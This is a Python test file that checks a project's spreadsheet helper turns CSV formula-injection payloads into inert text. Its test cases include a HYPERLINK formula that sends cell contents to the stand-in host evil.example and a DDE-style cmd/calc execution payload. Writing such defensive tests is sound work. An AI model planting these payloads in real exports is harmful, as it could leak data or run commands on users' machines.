"""Spreadsheet formula injection: every CSV cell that could run as a formula is neutralised."""

import csv
import io
import re
from pathlib import Path

import pytest

from tribune.lib import spreadsheet

TRIBUNE = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A2,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",
    ],
)
def test_a_cell_that_could_start_a_formula_is_written_as_text(cell):
    assert spreadsheet.safe_cell(cell) == "'" + cell
    text = spreadsheet.to_csv(["name"], [[cell]])
    (_header, (written,)) = list(csv.reader(io.StringIO(text)))
    assert written == "'" + cell


@pytest.mark.parametrize("cell", ["Ana Lima", "ana@example.org", "1 = 1", "", "O'Brien", "a-b"])
def test_ordinary_text_is_unchanged(cell):
    assert spreadsheet.safe_cell(cell) == cell


def test_numbers_stay_numbers():
    assert spreadsheet.safe_cell(-5) == -5
    assert spreadsheet.safe_cell(None) is None
    assert spreadsheet.to_csv(["n"], [[-5], [2.5]]) == "n\r\n-5\r\n2.5\r\n"


def test_the_dict_writer_neutralises_values_and_header():
    buffer = io.StringIO()
    out = spreadsheet.dict_writer(buffer, ["=name", "email"])
    out.writeheader()
    out.writerow({"=name": "=cmd()", "email": "@x"})
    assert buffer.getvalue() == "'=name,email\r\n'=cmd(),'@x\r\n"


def test_a_download_is_utf8_csv_with_neutralised_cells():
    response = spreadsheet.csv_response("members.csv", ["name"], [["=1+1"], ["Zoë"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="members.csv"'
    assert response.content.decode("utf-8") == "\ufeffname\r\n'=1+1\r\nZoë\r\n"


def test_every_csv_tribune_writes_goes_through_the_helper():
    """A csv.writer, DictWriter or text/csv response anywhere else would skip the neutralising."""
    pattern = re.compile(r"csv\.(writer|DictWriter)\b|text/csv")
    offenders = [
        str(path.relative_to(TRIBUNE))
        for path in TRIBUNE.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "spreadsheet.py"
        and pattern.search(path.read_text())
    ]
    assert offenders == []
